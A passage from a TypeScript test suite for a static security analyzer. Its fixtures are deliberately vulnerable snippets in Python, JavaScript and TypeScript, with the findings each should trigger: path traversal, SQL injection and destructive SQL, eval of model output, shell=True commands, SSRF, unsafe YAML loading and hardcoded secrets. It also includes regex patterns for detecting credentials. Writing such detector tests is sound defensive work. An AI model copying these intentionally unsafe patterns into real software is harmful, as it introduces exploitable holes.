    with open(os.path.join("/srv/uploads", name), "wb") as f:
        f.write(await file.read())
    with open(os.path.join("/srv/uploads", os.path.splitext(file.filename)[0]), "wb") as f:
        f.write(b"")
`;
    expect(await check('app/routers/workspace.py', py)).toEqual(['11 file-untrusted-path high']);
    const js = `const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const app = require('express')();
app.post('/upload', (req, res) => {
  fs.writeFileSync(path.join('/srv/uploads', crypto.randomUUID() + path.extname(req.body.name)), '');
  fs.writeFileSync(path.join('/srv/uploads', req.body.name), '');
  res.end();
});
module.exports = { app };
`;
    expect(await check('server/upload.js', js)).toEqual(['7 file-untrusted-path high']);
  });

  it('`Redis(host=..., password=settings.redis_password)` written in a text is code passing a setting, not a connection string\'s password', async () => {
    const src = `SNIPPET = """
client = Redis(host=os.getenv('REDIS_HOST'), port=6379,
               password=XAgentServerEnv.Redis.redis_password)
"""
DSN = "host=db.internal user=app password=Zq8rT5yU2iO9pA3s dbname=agent"
`;
    expect(await check('agent/redis_doc.py', src)).toEqual(['5 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, twentieth round: detector patterns, a cookie domain and Upsonic tools', () => {
  it('regular expressions that find credentials are not credentials; a cookie domain is not one either; a key beside them still is (Python)', async () => {
    // the shape of Upsonic's skill policy and R2R's crypto defaults
    const src = `SECRET_PATTERNS = {
    "AWS_ACCESS_KEY": r"(?:AKIA|ASIA)[0-9A-Z]{16}",
    "OPENAI_API_KEY": r"sk-[A-Za-z0-9]{20,}",
    "GENERIC_BEARER": r"Bearer\\s+[A-Za-z0-9\\-_.~+/]{20,}",
}
server_auth_cookie_domain = "localhost:8080"
DEFAULT_BCRYPT_SECRET_KEY = "wNFbczH3QhUVcPALwtWZCPi0lrDlGV3P1DPRVEQCPbM"
`;
    expect(await check('upsonic/safety_engine/policies.py', src)).toEqual(['7 hardcoded-secret high']);
  });

  it('an Upsonic `@tool` method is a tool: the command it is handed is the model\'s', async () => {
    const src = `import subprocess
from upsonic.tools import ToolKit, tool

class FileTools(ToolKit):
    @tool
    def run_command(self, command: str, timeout: int = 60) -> str:
        """Run a shell command in the workspace."""
        return subprocess.run(command, shell=True, capture_output=True, text=True, timeout=timeout).stdout
`;
    expect(await check('upsonic/ralph/tools/filesystem.py', src)).toEqual(['8 subprocess-shell critical']);
  });
});

describe('agent code not used for tuning, rounds 13 to 20: yaml FullLoader', () => {
  it('`yaml.load(f, Loader=yaml.FullLoader)` of the program\'s own file is low, of request input medium; the default loader stays high (Python)', async () => {
    // the shape of XAgent's and ChatDev's configuration loading
    const src = `import yaml
from flask import Flask, request
app = Flask(__name__)

def load_config(path="config.yml"):
    return yaml.load(open(path, "r"), Loader=yaml.FullLoader)

@app.post("/import")
def import_design():
    return yaml.load(request.form["design"], Loader=yaml.FullLoader), yaml.load(request.form["doc"])
`;
    expect(await check('app/config.py', src)).toEqual(['6 code-unsafe-deserialization low', '10 code-unsafe-deserialization medium', '10 code-unsafe-deserialization high']);
  });
});

describe('agent code not used for tuning, eighteenth round: a page of a listing', () => {
  it('`files.slice(offset, offset + limit)` of a directory the code checked is that directory\'s names, whatever page the request asks for; a name from the request is still found (JavaScript)', async () => {
    // the shape of anything-llm's getDocumentsByFolder
    const src = `const fs = require('fs');
const path = require('path');
const app = require('express')();
const documentsPath = path.resolve(__dirname, 'documents');
app.get('/folder', (req, res) => {
  const { offset, limit } = req.query;
  const files = fs.readdirSync(documentsPath).sort();
  const page = files.slice(offset, offset + limit);
  res.json(page.map((file) => fs.readFileSync(path.join(documentsPath, file), 'utf8')));
  res.end(fs.readFileSync(path.join(documentsPath, req.query.name.slice(0, 64)), 'utf8'));
});
module.exports = { app };
`;
    expect(await check('server/utils/files/index.js', src)).toEqual(['10 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, twenty-first round: a URL object written out', () => {
  it('`fetch(new URL(`${API}${endpoint}`).toString())` in a helper every caller hands a path keeps the configured host; a URL the request names is still found (TypeScript)', async () => {
    // the shape of agentops' dashboard API routes
    const src = `import { NextRequest, NextResponse } from 'next/server';
async function fetchBackendApi(request: NextRequest, endpoint: string) {
  const apiUrl = process.env.NEXT_PUBLIC_API_URL;
  const targetUrl = new URL(\`\${apiUrl}\${endpoint}\`);
  targetUrl.search = request.nextUrl.search;
  const response = await fetch(targetUrl.toString(), { cache: 'no-store' });
  return new NextResponse(await response.text());
}
export async function POST(request: NextRequest) {
  const body = await request.json();
  return fetchBackendApi(request, \`/projects/\${body.projectId}/rotate-key\`);
}
export async function GET(request: NextRequest) {
  const target = new URL(request.nextUrl.searchParams.get('url') ?? '');
  return fetch(target.href);
}
`;
    expect(await check('app/settings/projects/api/route.ts', src)).toEqual(['15 egress-untrusted-url high']);
  });
});

describe('agent code not used for tuning, twenty-first round: the last part of a path', () => {
  it('`Path(upload.filename).suffix` and `.name` hold no separator; the whole file name still leaves the folder (Python)', async () => {
    // the shape of cognee's upload_to_temp_path
    const src = `import tempfile
from pathlib import Path
from fastapi import APIRouter, UploadFile
router = APIRouter()

@router.post("/upload")
async def upload(file: UploadFile):
    fd, temp_path = tempfile.mkstemp(prefix="upload_", suffix=Path(file.filename).suffix)
    with open(temp_path, "wb") as f:
        f.write(await file.read())
    with open(Path("/srv/uploads") / Path(file.filename).name, "wb") as f:
        f.write(b"")
    with open(Path("/srv/uploads") / file.filename, "wb") as f:
        f.write(b"")
`;
    // (`/srv/uploads/…` is also a fixed place outside the project, `file-outside-sandbox`, low)
    expect((await check('api/routers/upload.py', src)).filter((f) => f.includes('file-untrusted-path'))).toEqual(['13 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, twenty-first round: a program checked as argv[0]', () => {
  it('`if command and command[0] in self.allowed: run(command)` runs an allowed program; without the check it is still found (Python)', async () => {
    // the shape of txtai's bash tool
    const src = `import subprocess

class Bash:
    def __init__(self, allowed=None):
        self.allowed = allowed if allowed else ["cat", "grep", "ls"]

    def forward(self, command):
        output = None
        if command and command[0] in self.allowed:
            output = subprocess.run(command, capture_output=True, text=True, check=False).stdout
        return output

    def unchecked(self, command):
        return subprocess.run(command, capture_output=True, text=True, check=False).stdout
`;
    expect(await check('txtai/agent/tool/bash.py', src)).toEqual(['14 subprocess-dynamic-command medium']);
  });
});

describe('agent code not used for tuning, twenty-first round: a dialect\'s quoting', () => {
  it('a table name quoted by `dialect.identifier_preparer.quote`, also bound to a local name, is a quoted identifier; an unquoted one is still found (Python)', async () => {
    // the shape of cognee's ingest_database_schema
    const src = `from sqlalchemy import text
from fastapi import APIRouter
from .db import get_engine
router = APIRouter()

@router.post("/sample")
async def sample(tables: list[str], max_rows: int):
    engine = get_engine()
    qi = engine.engine.dialect.identifier_preparer.quote
    async with engine.engine.begin() as cursor:
        for table_name in tables:
            await cursor.execute(text(f"SELECT * FROM {qi(table_name)} LIMIT :limit;"), {"limit": max_rows})
            await cursor.execute(text(f"SELECT COUNT(*) FROM {table_name};"))
`;
    expect(await check('cognee/tasks/schema/ingest.py', src)).toEqual(['13 sql-injection high']);
  });
});

describe('agent code not used for tuning, twenty-second round: one of several roots', () => {
  it('a path checked against each allowed root with `any(...)`, or equal to one, is contained; `any` of another test or no check is still found (Python)', async () => {
    // the shape of DB-GPT's download of files an agent made
    const src = `import os
from fastapi import APIRouter
from fastapi.responses import FileResponse
router = APIRouter()
ROOT = "/srv/app"

@router.get("/file")
async def download(file_path: str):
    resolved = os.path.realpath(file_path)
    allowed_dirs = [os.path.realpath("/tmp"), os.path.realpath(ROOT)]
    if not any(resolved.startswith(d + os.sep) or resolved == d for d in allowed_dirs):
        raise ValueError("Access denied")
    return FileResponse(path=resolved)

@router.get("/file2")
async def download2(file_path: str):
    resolved = os.path.realpath(file_path)
    if not any(resolved.endswith(x) for x in (".txt", ".md")):
        raise ValueError("bad type")
    return FileResponse(path=resolved)

@router.get("/file3")
async def download3(file_path: str):
    resolved = os.path.realpath(file_path)
    if all(resolved.startswith(d + os.sep) for d in [ROOT]) or os.path.isfile(resolved):
        return FileResponse(path=resolved)
    return None
`;
    expect(await check('dbgpt_app/openapi/api_v1/files.py', src)).toEqual(['20 file-untrusted-path high', '26 file-untrusted-path high']);
  });

  it('the items a check runs over are not the value checked: `any(file_path.startswith(root) for file_path in ...)` proves nothing of the parameter of that name (Python)', async () => {
    const src = `import os
from fastapi import APIRouter
from fastapi.responses import FileResponse
router = APIRouter()
KNOWN = ["/srv/a.txt", "/srv/b.txt"]

@router.get("/file")
async def download(file_path: str):
    if not any(file_path.startswith("/srv/") for file_path in KNOWN):
        raise ValueError("none")
    return FileResponse(path=file_path)
`;
    expect(await check('app/api/files.py', src)).toEqual(['11 file-untrusted-path high']);
  });

  it('`roots.some((d) => p.startsWith(d + path.sep) || p === d)` is contained, a callback over the items is not, and no check is still found (TypeScript)', async () => {
    const src = `import express from 'express';
import path from 'node:path';
import fs from 'node:fs';
const app = express();
const ROOTS = ['/srv/a', '/srv/b'];
app.get('/f', (req, res) => {
  const resolved = path.resolve(String(req.query.p));
  if (!ROOTS.some((d) => resolved.startsWith(d + path.sep) || resolved === d)) return res.status(403).end();
  res.send(fs.readFileSync(resolved, 'utf8'));
});
app.get('/g', (req, res) => {
  const resolved = path.resolve(String(req.query.p));
  if (!ROOTS.every(function (d) { return resolved.startsWith(d); })) return res.status(403).end();
  res.send(fs.readFileSync(resolved, 'utf8'));
});
app.get('/h', (req, res) => {
  const resolved = path.resolve(String(req.query.p));
  if (!ROOTS.some((resolved) => resolved.startsWith('/srv/'))) return res.status(403).end();
  res.send(fs.readFileSync(resolved, 'utf8'));
});
app.get('/i', (req, res) => {
  const resolved = path.resolve(String(req.query.p));
  res.send(fs.readFileSync(resolved, 'utf8'));
});
`;
    expect(await check('server/files.ts', src)).toEqual(['19 file-untrusted-path high', '23 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, twenty-second round: one part of a path', () => {
  it('one part of a value split at "/" glued to a file name, or the last part of the path written, holds no separator and cannot escape; the whole value, or a part split at another character, is still found (Python)', async () => {
    // the shape of AGiXT's transcription endpoint
    const src = `import uuid
from fastapi import APIRouter, UploadFile, File
router = APIRouter()

@router.post("/audio")
async def transcribe(file: UploadFile = File(...)):
    audio_format = file.content_type.split("/")[1]
    if audio_format == "x-wav":
        audio_format = "wav"
    audio_path = f"./WORKSPACE/{uuid.uuid4().hex}.{audio_format}"
    with open(audio_path, "wb") as f:
        f.write(file.file.read())
    last = file.filename.rsplit("/", 1)[-1]
    with open(f"./WORKSPACE/{last}", "wb") as f:
        f.write(b"")
    with open(f"./WORKSPACE/{file.filename}", "wb") as f:
        f.write(b"")
    part = file.filename.split("_")[0]
    with open(f"./WORKSPACE/{part}", "wb") as f:
        f.write(b"")
`;
    // (line 14: \`last\`, the last part of the path, is at worst \`..\`, a directory \`open\` cannot write: no finding since
    // round 63; line 16: the whole name; line 19: a part split at "_", which may hold "/")
    expect(await check('agixt/endpoints/Completions.py', src)).toEqual(['16 file-untrusted-path high', '19 file-untrusted-path high']);
  });

  it('the same in TypeScript: `split("/")[1]` and `split("/").pop()` glued to a file name, or alone as the file written, are harmless; the whole name and a part split at "." are still found', async () => {
    const src = `import express from 'express';
import fs from 'node:fs';
import { randomUUID } from 'node:crypto';
const app = express();
app.post('/upload', (req, res) => {
  const format = String(req.headers['content-type']).split('/')[1];
  fs.writeFileSync(\`./uploads/\${randomUUID()}.\${format}\`, req.body);
  const last = String(req.query.name).split('/').pop();
  fs.writeFileSync(\`./uploads/\${last}.json\`, req.body);
  fs.writeFileSync(\`./uploads/\${last}\`, req.body);
  fs.writeFileSync(\`./uploads/\${req.query.name}\`, req.body);
  const stem = String(req.query.name).split('.')[0];
  fs.writeFileSync(\`./uploads/\${stem}\`, req.body);
  res.end();
});
`;
    expect(await check('server/upload.ts', src)).toEqual(['11 file-untrusted-path high', '13 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, twenty-second round: the text of a checked path', () => {
  it('`str(p).startswith(str(root))` checks p, and `p.with_suffix(...)` of a checked path stays in its folder; an unchecked path is still found (Python)', async () => {
    // the shape of AGiXT's video thumbnails
    const src = `from pathlib import Path
from fastapi import FastAPI
from fastapi.responses import FileResponse
app = FastAPI()
ROOT = "/srv/ws"

@app.get("/v/{agent_id}/{name}")
async def video(agent_id: str, name: str):
    video_path = Path(ROOT, agent_id, name).resolve()
    if not str(video_path).startswith(str(Path(ROOT).resolve())):
        raise ValueError("denied")
    thumb_path = video_path.with_suffix(video_path.suffix + ".thumb.jpg")
    a = FileResponse(path=str(video_path))
    return FileResponse(path=str(thumb_path))

@app.get("/w/{agent_id}/{name}")
async def video2(agent_id: str, name: str):
    video_path = Path(ROOT, agent_id, name).resolve()
    thumb_path = video_path.with_suffix(".jpg")
    return FileResponse(path=str(thumb_path))
`;
    expect(await check('agixt/app.py', src)).toEqual(['20 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, twenty-second round: chains of older LangChain', () => {
  it('what `LLMChain(...).run()` returns is model output, imported from the top of `langchain` as from `langchain.chains` (Python)', async () => {
    // the shape of JARVIS' EasyTool
    const src = `from langchain.chat_models import ChatOpenAI
from langchain import LLMChain
from langchain.chains import LLMChain as Chain2

def choose_tool(question, prompt):
    chain = LLMChain(llm=ChatOpenAI(), prompt=prompt)
    result = chain.run(question=question)
    return eval(result.split("(")[0].strip())

async def choose_tool2(question, prompt):
    chain = Chain2(llm=ChatOpenAI(), prompt=prompt)
    result = await chain.arun(question=question)
    return eval(result)
`;
    expect(await check('easytool/funcQA.py', src)).toEqual(['8 code-eval critical', '13 code-eval critical']);
  });
});

/**
 * The shape of DB-GPT's datasource connectors: two methods that splice the table name a caller
 * passes (lines 10 and 13), and a route that splices its request's (line 17).
 */
function connectorSource(first: [string, string], second: [string, string], route: [string, string]): string {
  return `from sqlalchemy import text
from fastapi import APIRouter
router = APIRouter()

class Connector:
    def __init__(self, session):
        self.session = session

    def ${first[0]}(self, table_name):
        return self.session.execute(text(f"${first[1]}"))

    def ${second[0]}(self, name):
        return self.session.execute(text(f"${second[1]}"))

@router.get("/${route[0]}")
async def ${route[0]}(table: str):
    return Connector(None).session.execute(text(f"${route[1]}"))
`;
}

describe('agent code not used for tuning, twenty-second round: a name a caller passes', () => {
  it('a table name a caller passes, spliced where a name goes, is low; one spliced between quotes, or from a request, stays (Python)', async () => {
    const src = connectorSource(
      ['get_indexes', 'SHOW INDEX FROM {table_name}'],
      ['get_comment', "SELECT comments FROM notes WHERE table_name = '{name}'"],
      ['indexes', 'SHOW INDEX FROM {table}'],
    );
    expect(await check('dbgpt_ext/datasource/rdbms/conn_doris.py', src)).toEqual([
      '10 sql-injection low',
      '13 sql-injection medium',
      '17 sql-injection high',
    ]);
  });
});

describe('agent code not used for tuning, twenty-second round: a lookup in the catalog', () => {
  it.each([
    ["SELECT comments FROM user_tab_comments WHERE table_name = '__agentos_hole_0__'", true],
    ["SELECT c.column_name, c.data_type FROM information_schema.columns c JOIN pg_catalog.pg_class t ON t.relname = c.table_name WHERE c.table_name = '__agentos_hole_0__';", true],
    ["SELECT indexname, indexdef FROM pg_indexes WHERE tablename = '__agentos_hole_0__'", true],
    ["SELECT sql FROM sqlite_master WHERE type='table' AND name='__agentos_hole_0__'", true],
    ["PRAGMA table_info('__agentos_hole_0__')", true],
    ["SELECT comment FROM duckdb_tables() WHERE table_name = '__agentos_hole_0__'", true],
    // an application's own table, a catalog table beside one, more than one statement, no table at all
    ["SELECT * FROM users WHERE name = '__agentos_hole_0__'", false],
    ["SELECT * FROM user_profiles WHERE name = '__agentos_hole_0__'", false],
    ["SELECT column_name FROM all_tab_columns WHERE table_name = '__agentos_hole_0__'", true],
    ["SELECT * FROM information_schema.tables t JOIN accounts a ON a.id = t.table_name WHERE a.x = '__agentos_hole_0__'", false],
    ["SELECT * FROM pg_tables WHERE tablename = '__agentos_hole_0__'; DELETE FROM users", false],
    ["SELECT '__agentos_hole_0__'", false],
    ["SELECT * INTO backup FROM pg_tables WHERE x = '__agentos_hole_0__'", false],
  ])('%s: reads the catalog only = %s', (text, expected) => {
    expect(readsCatalogOnly(text, '__agentos_hole_')).toBe(expected);
  });

  it('a catalog lookup with a name a caller passes is low; the same from a request, or against an application table, stays (Python)', async () => {
    const src = connectorSource(
      ['get_comment', "SELECT comments FROM user_tab_comments WHERE table_name = '{table_name}'"],
      ['get_user', "SELECT * FROM users WHERE name = '{name}'"],
      ['comment', "SELECT comments FROM user_tab_comments WHERE table_name = '{table}'"],
    );
    expect(await check('dbgpt_ext/datasource/rdbms/conn_oracle.py', src)).toEqual([
      '10 sql-injection low',
      '13 sql-injection medium',
      '17 sql-injection high',
    ]);
  });
});

describe('agent code not used for tuning, twenty-third round: a path put in canonical form by a helper', () => {
  it('a check of `normalizePath(p)` checks p, as the MCP filesystem server copied into UI-TARS does; a helper named otherwise proves nothing (TypeScript)', async () => {
    const src = `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { z } from 'zod';
import fs from 'node:fs/promises';
import path from 'node:path';
const allowedDirectories = ['/srv/data'];
function normalizePath(p: string): string { return path.normalize(p); }
function decorate(p: string): string { return p + '/'; }
async function validatePath(requestedPath: string): Promise<string> {
  const absolute = path.resolve(requestedPath);
  const realPath = await fs.realpath(absolute);
  const normalizedReal = normalizePath(realPath);
  const ok = allowedDirectories.some((dir) => normalizedReal.startsWith(dir));
  if (!ok) throw new Error('Access denied');
  return realPath;
}
async function looseValidate(requestedPath: string): Promise<string> {
  const absolute = path.resolve(requestedPath);
  const decorated = decorate(absolute);
  if (!allowedDirectories.some((dir) => decorated.startsWith(dir))) throw new Error('Access denied');
  return absolute;
}
const server = new McpServer({ name: 'fs', version: '1' });
server.tool('read_file', 'Read a file', { path: z.string() }, async (args) => {
  const validPath = await validatePath(args.path);
  const a = await fs.readFile(validPath, 'utf-8');
  const other = await looseValidate(args.path);
  return { content: [{ type: 'text', text: a + (await fs.readFile(other, 'utf-8')) }] };
});
`;
    expect(await check('mcp-servers/filesystem/src/server.ts', src)).toEqual(['27 file-untrusted-path critical']);
  });

  it('the same in Python: a check of `normalize_path(p)` checks p; a helper named otherwise proves nothing', async () => {
    const src = `import os
from mcp.server.fastmcp import FastMCP
mcp = FastMCP("fs")
ROOT = "/srv/data"

def normalize_path(p):
    return os.path.normpath(p)

def decorate(p):
    return p + "/"

@mcp.tool()
def read_file(path: str, path2: str) -> str:
    real = os.path.realpath(path)
    if not normalize_path(real).startswith(ROOT + os.sep):
        raise ValueError("denied")
    other = os.path.realpath(path2)
    if not decorate(other).startswith(ROOT + os.sep):
        raise ValueError("denied")
    return open(real).read() + open(other).read()
`;
    expect(await check('fs_server/server.py', src)).toEqual(['20 file-untrusted-path critical']);
  });
});

describe('agent code not used for tuning, twenty-third round: an analytics client\'s write key', () => {
  it('a write key set on an analytics client (RudderStack, Segment) is published by design; another key on it, or a write key elsewhere, is still a credential (Python)', async () => {
    // the shape of gpt-engineer's usage statistics
    const src = `import rudderstack.analytics as rudder_analytics
import analytics
import storage

rudder_analytics.write_key = "2Re4kqwL61GDp7S8ewe6K5dbogG"
analytics.write_key = "q7Vd9xLp2RkT4mZaW3nB"
analytics.api_key = "q7Vd9xLp2RkT4mZaW3nC"
storage.write_key = "q7Vd9xLp2RkT4mZaW3nD"
`;
    expect(await check('gpt_engineer/applications/cli/collect.py', src)).toEqual(['7 hardcoded-secret high', '8 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, twenty-fourth round: a request helper every caller gives a fixed host', () => {
  it('a helper\'s URL parameter every call in the file fills with a URL on a fixed host is not SSRF; one caller passing the request\'s URL makes it one (Python)', async () => {
    // the shape of skyvern's Google Sheets service
    const fixed = `import httpx
from urllib.parse import quote
from fastapi import APIRouter
router = APIRouter()
SHEETS_API_BASE = "https://sheets.googleapis.com/v4/spreadsheets"

async def _request_with_retry(method: str, url: str, *, headers: dict):
    async with httpx.AsyncClient() as client:
        return await client.request(method, url, headers=headers)

@router.get("/h")
async def headers(spreadsheet_id: str, sheet_title: str):
    encoded = quote(f"{sheet_title}!A1:ZZZ1", safe="")
    url = f"{SHEETS_API_BASE}/{spreadsheet_id}/values/{encoded}"
    return await _request_with_retry("GET", url, headers={})

@router.get("/b")
async def batch(spreadsheet_id: str):
    return await _request_with_retry("POST", f"{SHEETS_API_BASE}/{spreadsheet_id}:batchUpdate", headers={})
`;
    expect(await check('skyvern/forge/sdk/services/google_sheets_service.py', fixed)).toEqual([]);
    const open = `${fixed}
@router.get("/any")
async def anything(target: str):
    return await _request_with_retry("GET", target, headers={})
`;
    expect(await check('skyvern/forge/sdk/services/google_sheets_service.py', open)).toEqual(['9 egress-untrusted-url high']);
  });
});

describe('agent code not used for tuning, twenty-fifth round: a validator called for its check', () => {
  it('past `validate_table_name(t)` or `validate_identifier(t)`, which raise on what they refuse, t is an identifier; a name passed to another helper is still found (Python)', async () => {
    // the shape of awslabs' billing-cost-management MCP server and PraisonAI's knowledge stores
    const src = `import re
import sqlite3
from mcp.server.fastmcp import FastMCP
mcp = FastMCP("billing")
conn = sqlite3.connect("x.db")

def validate_table_name(table_name: str) -> bool:
    if not re.match(r"^[a-zA-Z0-9_]+$", table_name):
        raise ValueError("bad table name")
    return True

def log_table_name(table_name: str) -> None:
    print(table_name)

def create_safe_sql_statement(statement_type: str, table_name: str, *args) -> str:
    validate_table_name(table_name)
    return f"CREATE TABLE {table_name} ({', '.join(args)})"

@mcp.tool()
def store(operation: str) -> str:
    table_name = f"{operation}_results"
    conn.execute(create_safe_sql_statement("CREATE", table_name, "a TEXT"))
    other = f"{operation}_other"
    log_table_name(other)
    conn.execute(f"DROP TABLE {other}")
    return "ok"
`;
    expect(await check('billing_cost_management_mcp_server/utilities/sql_utils.py', src)).toEqual(['25 sql-destructive high', '25 sql-injection critical']);
  });
});

describe('agent code not used for tuning, twenty-fifth round: a URL matched against allowed patterns', () => {
  it('`any(re.match(r, url) for r in supported_domains_regex)` allowlists the URL; patterns of a list named otherwise, or no check, do not (Python)', async () => {
    // the shape of awslabs' AWS documentation MCP server
    const src = `import re
import httpx
from mcp.server.fastmcp import FastMCP
mcp = FastMCP("docs")

@mcp.tool()
async def read_documentation(url: str) -> str:
    supported_domains_regex = [r"^https?://docs\\.aws\\.amazon\\.com/"]
    if not any(re.match(domain_regex, url) for domain_regex in supported_domains_regex):
        raise ValueError("URL must be from list of supported domains")
    async with httpx.AsyncClient() as client:
        return (await client.get(url)).text

@mcp.tool()
async def read_other(url: str) -> str:
    seen = [r"^https?://"]
    if not any(re.match(p, url) for p in seen):
        raise ValueError("no")
    async with httpx.AsyncClient() as client:
        return (await client.get(url)).text
`;
    expect(await check('aws_documentation_mcp_server/server_aws.py', src)).toEqual(['20 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, twenty-sixth round: validators, loaders, request objects, PostgreSQL text, SET lists', () => {
  it('`if error := _validate_conversation_id(cid): return error` and `if not _validate_task_id(t): return` contain the id as a path segment; an id checked by nothing is still found (Python)', async () => {
    // the shape of gptme's server API
    const src = `import re
import shutil
import flask
from pathlib import Path

app = flask.Flask(__name__)
# (a folder of the project: outside it, writing there would be a finding of its own)
LOGS = Path("data/logs")
_ID = re.compile(r"^[A-Za-z0-9_-]+$")

def _validate_conversation_id(conversation_id: str):
    if not _ID.fullmatch(conversation_id):
        return flask.jsonify({"error": "Invalid conversation_id"}), 400
    return None

def _validate_task_id(task_id: str) -> bool:
    return bool(_ID.fullmatch(task_id))

@app.route("/api/conversations/<string:conversation_id>", methods=["DELETE"])
def delete(conversation_id: str):
    if error := _validate_conversation_id(conversation_id):
        return error
    shutil.rmtree(LOGS / conversation_id)
    return "ok"

@app.route("/api/tasks/<string:task_id>")
def load_task(task_id: str):
    if not _validate_task_id(task_id):
        return None
    with open(LOGS / f"{task_id}.json") as f:
        return f.read()

@app.route("/api/other/<string:other_id>")
def other(other_id: str):
    shutil.rmtree(LOGS / other_id)
    # (glued to \`.json\`, the one segment is only part of a file name: no check needed)
    with open(LOGS / f"{other_id}.json") as f:
        return f.read()
`;
    expect(await check('app/server/api.py', src)).toEqual(['35 file-untrusted-path high']);
  });

  it("a YAML loader of the project's own named for a safe loader, imported from another module, is safe; FullLoader still is not (Python)", async () => {
    // the shape of kotaemon's settings pages (`class YAMLNoDateSafeLoader(yaml.SafeLoader)` in ktem/utils/file.py)
    const src = `import yaml
from ktem.utils.file import YAMLNoDateSafeLoader, YAMLNoDateLoader

def load_spec(spec: str):
    a = yaml.load(spec, Loader=YAMLNoDateSafeLoader)
    b = yaml.load(spec, Loader=YAMLNoDateLoader)
    c = yaml.load(spec, Loader=yaml.FullLoader)
    return a, b, c
`;
    expect(await check('libs/ktem/ktem/llms/ui.py', src)).toEqual(['6 code-unsafe-deserialization high', '7 code-unsafe-deserialization low']);
  });

  it('a request object goes where its URL argument says: a body from request input is not SSRF, a URL from it is (Python)', async () => {
    // the shape of gptme's speech-to-text route
    const src = `import json
import urllib.request
import flask

app = flask.Flask(__name__)

@app.route("/transcribe", methods=["POST"])
def transcribe():
    payload = {"model": flask.request.form["model"], "audio": flask.request.files["f"].read().hex()}
    req = urllib.request.Request("https://openrouter.ai/api/v1/audio/transcriptions", data=json.dumps(payload).encode(), method="POST")
    with urllib.request.urlopen(req, timeout=60) as r:
        first = r.read()
    req2 = urllib.request.Request(flask.request.form["callback"], data=first)
    with urllib.request.urlopen(req2, timeout=60) as r:
        return r.read()
`;
    const found = await check('server/api_v2.py', src);
    expect(found.filter((f) => f.includes('egress-untrusted-url'))).toEqual(['13 egress-untrusted-url high', '14 egress-untrusted-url high']);
  });

  it("PostgreSQL text (a `::` cast) is read as PostgreSQL: `#>>` is its JSON operator, not MySQL's comment hiding the WHERE; MySQL's `#` comment still hides it (Python)", async () => {
    // the shape of DocsGPT's user repository
    const src = `from sqlalchemy import text

def remove_agent(conn, user_id, agent_id):
    conn.execute(text("""UPDATE users SET prefs = COALESCE((SELECT jsonb_agg(e) FROM jsonb_array_elements(prefs) AS e WHERE (e #>> '{}') != :agent_id), '[]'::jsonb) WHERE user_id = :user_id"""), {"user_id": user_id, "agent_id": agent_id})

def set_default_prefs(conn):
    conn.execute(text("UPDATE users SET prefs = '[]' # WHERE user_id = 1"))
`;
    expect(await check('app/repositories/users.py', src)).toEqual(['7 sql-destructive high']);
  });

  it('SET lists and column definitions built of names and bound parameters are names (low); a value between quotes keeps medium (Python)', async () => {
    // the shapes of DocsGPT's repositories, crewAI's task output storage and DB-GPT's table import
    const src = `from sqlalchemy import text

class Repo:
    def update(self, row_id, fields: dict):
        sets = []
        params = {"id": row_id}
        for col, val in fields.items():
            sets.append(f"{col} = :{col}")
            params[col] = val
        self._conn.execute(text(f"UPDATE items SET {', '.join(sets)} WHERE id = :id"), params)

    def update2(self, row_id, fields: dict):
        sets = ", ".join(f"{c} = ?" for c in fields)
        self._conn.execute(text(f"UPDATE items SET {sets} WHERE id = :id"), fields)

    def create(self, table: str, columns: dict):
        cols = ", ".join([f"{c} {t}" for c, t in columns.items()])
        self._conn.execute(text(f"CREATE TABLE {table} ({cols});"))

    def update3(self, row_id, fields: dict):
        sets = ", ".join(f"{c} = '{fields[c]}'" for c in fields)
        self._conn.execute(text(f"UPDATE items SET {sets} WHERE id = :id"))
`;
    expect(await check('app/repositories/items.py', src)).toEqual(['10 sql-injection low', '14 sql-injection low', '18 sql-injection low', '22 sql-injection medium']);
  });

  it('a DROP of `{schema}.prefix_{name}` in a function named for deleting it is that function\'s job (low), as a wholly dynamic name is (Python)', async () => {
    // the shape of PraisonAI's pgvector knowledge store
    const src = `import psycopg2

class Store:
    def __init__(self, schema: str = "public"):
        self.schema = schema
        self.conn = psycopg2.connect("")

    def _table_name(self, collection: str) -> str:
        return f"{self.schema}.praison_vec_{collection}"

    def delete_collection(self, name: str) -> bool:
        with self.conn.cursor() as cur:
            cur.execute(f"DROP TABLE IF EXISTS {self._table_name(name)}")
        return True

    def rebuild(self, name: str) -> bool:
        with self.conn.cursor() as cur:
            cur.execute(f"DROP TABLE IF EXISTS {self._table_name(name)}")
        return True
`;
    const found = (await check('persistence/knowledge/pgvector.py', src)).filter((f) => f.includes('sql-destructive'));
    expect(found).toEqual(['13 sql-destructive low', '18 sql-destructive high']);
  });

  it('a list sliced by constant bounds keeps its items: `command[:-1]` of a constant argv is constant (Python)', async () => {
    // the shape of kotaemon's GraphRAG indexing
    const src = `import subprocess

def index(input_path: str):
    command = ["python", "-m", "graphrag.index", "--root", input_path, "--init"]
    subprocess.run(command)
    command = command[:-1]
    subprocess.Popen(command)
    command = command[4:]
    subprocess.Popen(command)
`;
    expect(await check('ktem/index/graph/pipelines.py', src)).toEqual(['9 subprocess-dynamic-command low']);
  });

  it("a script kept in a string that reads a password with a call is not a credential; a DSN's password still is (Python)", async () => {
    // the shape of kotaemon's login page
    const src = `fetch_creds = """
function() {
    const username = getStorage('username', '')
    const password = getStorage('password', '')
    return [username, password, null];
}
"""
dsn = "host=db user=app password=Xk29fLq7Zp dbname=main"
`;
    expect(await check('ktem/pages/login.py', src)).toEqual(['8 hardcoded-secret high']);
  });

  it("a helper every caller hands an argv list whose program another module of the project found (`[GIT_CMD, ...]`) is low; one a caller's parameter names is still reported (Python)", async () => {
    // the shape of gptme's version lookup and status command (`GIT_CMD = shutil.which("git") or "git"` in util/git_cmd.py)
    const src = `import subprocess
from .util.git_cmd import GIT_CMD

def version():
    def git_cmd(cmd):
        return subprocess.check_output(cmd, text=True)
    return git_cmd([GIT_CMD, "describe"]) + git_cmd(["git", "status"])

def _run(cmd):
    return subprocess.check_output(cmd, text=True)

def status(tool: str):
    return _run([GIT_CMD, "log"]) + _run([tool, "--version"])
`;
